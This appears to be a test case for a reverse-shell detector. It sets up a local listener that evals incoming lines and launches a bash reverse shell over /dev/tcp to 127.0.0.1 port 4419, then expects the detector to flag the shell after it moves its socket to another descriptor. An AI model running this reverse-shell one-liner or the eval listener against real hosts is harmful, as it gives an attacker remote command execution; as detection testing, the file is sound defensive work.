# R19: a shell moves its connection to other descriptors
# stage: behaviour
# expect: reverse_shell_detected
#   detection.reason: ~outbound
#   reverse_shell.process_list.length: 1
#   reverse_shell.process_list.0.process_id: $shell
#   reverse_shell.process_list.0.network_connection_list.0.destination_port: 4419

#: prepare
. lib/peers.sh
peer 4419 'exec 9<&0 0</dev/null; while read -ru 9 line; do eval "$line"; done'
#: act
. lib/peers.sh
act
bash -c "bash -i >& /dev/tcp/127.0.0.1/4419 0>&1" < /dev/null > /dev/null 2>&1 &
who shell 'bash -i'
await 'at $shell 9 socket:* && at $shell 0 /dev/null'
